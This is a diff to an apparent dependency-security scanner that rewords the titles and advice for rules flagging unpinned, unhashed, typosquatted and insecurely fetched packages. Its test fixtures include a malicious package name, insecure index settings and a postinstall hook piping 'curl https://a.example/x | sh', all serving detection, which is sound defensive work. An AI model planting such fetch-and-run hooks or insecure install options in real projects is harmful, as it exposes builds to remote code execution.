@@ -67,7 +67,7 @@ def _unlocked(subject: Subject) -> Iterator[Hit]:
             seen.add(each.place.file)
             yield Hit(
                 place=each.place,
-                text=f"{each.place.file} has ranges and no lock beside it",
+                text=f"{each.place.file} has version ranges and no lock beside it",
                 subject=each.place.file,
             )
 
@@ -86,13 +86,13 @@ def _left(d: Dependency) -> str | None:
     return (
         None
         if instead is None or d.development
-        else f"{d.name} is given up or dangerous" + (f": use {instead}" if instead else "")
+        else f"{d.name} is abandoned or dangerous" + (f": use {instead}" if instead else "")
     )
 
 
 def _index(d: Dependency) -> str | None:
     return (
-        f"{d.wanted[:100]}: a package of that name anywhere is taken for yours"
+        f"{d.wanted[:100]}: a package of that name in any index is taken for yours"
         if d.ecosystem == "option" and d.name == "--extra-index-url"
         else None
     )
@@ -102,13 +102,13 @@ def _trusted(d: Dependency) -> str | None:
     if d.ecosystem == "option" and (
         d.name == "--trusted-host" or re.search(r"index-url[ =]http://", d.wanted)
     ):
-        return f"{d.wanted[:100]}: packages come without a check of who sends them"
+        return f"{d.wanted[:100]}: nobody checks which server sends the packages"
     return None
 
 
 def _plain(d: Dependency) -> str | None:
     return (
-        f"{d.name[:60]} comes from an address without encryption"
+        f"{d.name[:60]} is fetched without encryption"
         if re.match(r"(?:git\+)?http:", d.origin)
         else None
     )
@@ -120,7 +120,7 @@ def _moving(d: Dependency) -> str | None:
         and not re.search(r"[@#][0-9a-f]{7,40}\b", d.origin)
         and re.match(r"git|github:|[\w-]+/[\w-]+$", d.origin)
     ):
-        return f"{d.name[:60]} is whatever a branch or tag holds when it is built"
+        return f"{d.name[:60]} is whatever a branch or tag has at build time"
     return None
 
 
@@ -203,8 +203,10 @@ RULES = (
         "DEP-001",
         "Packages without versions",
         Severity.LOW,
-        "The next deployment takes what was released last, by whoever has got the account of its author.",
-        "Pin each with ==, and lock what they need: uv pip compile --generate-hashes. casemate build writes a lock, to commit.",
+        "The next deployment takes whatever was released last, by anybody who got the "
+        "author's account.",
+        "Pin each package with ==, and lock what they need: uv pip compile "
+        "--generate-hashes. casemate build writes a lock that you commit.",
         _unpinned,
         requirements("requests>=2"),
         requirements("requests==2.32.3"),
@@ -213,8 +215,9 @@ RULES = (
         "DEP-002",
         "Packages without hashes",
         Severity.INFO,
-        "A registry or mirror that is taken over answers with something else.",
-        "Lock with hashes: uv pip compile --generate-hashes. casemate build writes a lock, to commit.",
+        "A registry or mirror that was taken over can answer with something else.",
+        "Lock with hashes: uv pip compile --generate-hashes. casemate build writes a lock "
+        "that you commit.",
         _unhashed,
         requirements("requests==2.32.3"),
         requirements(f"requests==2.32.3 {_HASH}"),
@@ -222,10 +225,10 @@ RULES = (
     ),
     _rule(
         "DEP-003",
-        "Ranges without a lock",
+        "Version ranges without a lock",
         Severity.LOW,
-        "The next deployment takes what was released last.",
-        "Commit package-lock.json, and install by npm ci.",
+        "The next deployment takes whatever was released last.",
+        "Commit package-lock.json, and install with npm ci.",
         _unlocked,
         _package_json('{"dependencies": {"left-pad": "^1.0.0"}}'),
         _package_json('{"dependencies": {"left-pad": "^1.0.0"}}', lock=True),
@@ -234,8 +237,8 @@ RULES = (
         "DEP-004",
         "Name of a malicious package",
         Severity.CRITICAL,
-        "It is a name by which malware was spread.",
-        "Use the package that was meant, and change all secrets that it could read.",
+        "Malware was spread under this name.",
+        "Use the package that you meant, and replace all secrets that this one could read.",
         _each(_trap),
         requirements("python3-dateutil==2.9.1"),
         requirements("python-dateutil==2.9.0"),
@@ -244,10 +247,10 @@ RULES = (
     ),
     _rule(
         "DEP-005",
-        "Package that is given up or dangerous",
+        "Package that is abandoned or dangerous",
         Severity.LOW,
-        "Holes in it are not mended any more, or it does what cannot be done safely.",
-        "Use what took its place.",
+        "Its vulnerabilities are no longer fixed, or it does something that cannot be done safely.",
+        "Use its successor.",
         _each(_left),
         requirements("pycrypto==2.6.1"),
         requirements("cryptography==44.0.0"),
@@ -257,8 +260,9 @@ RULES = (
         "DEP-006",
         "Two registries for one name",
         Severity.MEDIUM,
-        "pip takes the highest version from any: who registers the name of your package at PyPI is installed (dependency confusion).",
-        "Use one index that has both (--index-url), or uv with explicit indexes.",
+        "pip takes the highest version from any of them: whoever registers your package's "
+        "name on PyPI gets installed (dependency confusion).",
+        "Use one index that has everything (--index-url), or uv with explicit indexes.",
         _each(_index),
         requirements("--extra-index-url https://pypi.example/simple\nmine==1.0"),
         requirements("--index-url https://pypi.example/simple\nmine==1.0"),
@@ -266,10 +270,10 @@ RULES = (
     ),
     _rule(
         "DEP-007",
-        "Registry that is not checked",
+        "Package registry without certificate checks",
         Severity.HIGH,
-        "Everybody on the way sends packages of their own.",
-        "Use https, and give the right authority (--cert).",
+        "Anybody on the network path can send packages of their own.",
+        "Use https, and pass the right certificate authority (--cert).",
         _each(_trusted),
         requirements("--trusted-host pypi.example\nmine==1.0"),
         requirements("--index-url https://pypi.example/simple\nmine==1.0"),
@@ -277,9 +281,9 @@ RULES = (
     ),
     _rule(
         "DEP-008",
-        "Package without encryption",
+        "Package fetched without encryption",
         Severity.HIGH,
-        "Everybody on the way sends something else.",
+        "Anybody on the network path can send something else.",
         "Use https, and a hash.",
         _each(_plain),
         requirements("mine @ http://a.example/mine-1.0.tar.gz"),
@@ -290,7 +294,7 @@ RULES = (
         "DEP-009",
         "Package from a branch",
         Severity.MEDIUM,
-        "Whoever may push to it changes what you deploy.",
+        "Whoever may push to the branch can change what you deploy.",
         "Name the commit: git+https://...@0123abc....",
         _each(_moving),
         requirements("mine @ git+https://a.example/mine@main"),
@@ -298,10 +302,10 @@ RULES = (
     ),
     _rule(
         "DEP-010",
-        "Package with a known hole",
+        "Package with a known vulnerability",
         Severity.MEDIUM,
-        "How to use it is public.",
-        "Update to a version in which it is mended.",
+        "How to exploit it is public.",
+        "Update to a version that fixes it.",
         _advised,
         {},
         requirements("requests==2.32.3"),
@@ -310,10 +314,10 @@ RULES = (
     ),
     _rule(
         "DEP-011",
-        "Script of an installation that fetches",
+        "Install script that downloads",
         Severity.MEDIUM,
         "It runs at each build, with the rights of the build.",
-        "Do it in a step of its own, with a check sum.",
+        "Download in a separate step, with a checksum.",
         _scripts,
         _package_json('{"scripts": {"postinstall": "curl https://a.example/x | sh"}}'),
         _package_json('{"scripts": {"postinstall": "tsc"}}'),
